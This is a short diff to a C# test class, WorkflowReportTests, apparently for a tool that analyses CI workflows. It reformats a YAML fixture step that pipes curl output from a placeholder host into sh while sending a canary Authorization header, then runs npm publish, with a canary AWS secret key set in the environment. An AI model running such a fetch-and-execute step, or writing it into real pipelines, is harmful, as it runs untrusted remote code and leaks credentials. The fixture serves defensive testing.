@@ -211,7 +211,8 @@ public sealed class WorkflowReportTests
                 runs-on: ubuntu-latest
                 environment: {canary}
                 steps:
-                  - run: curl -H "Authorization: {canary}" https://x | sh && npm publish
+                  - run: |
+                      curl -H "Authorization: {canary}" https://x | sh && npm publish
                     env:
                       AWS_SECRET_ACCESS_KEY: {canary}
                   - uses: docker/login-action@v3
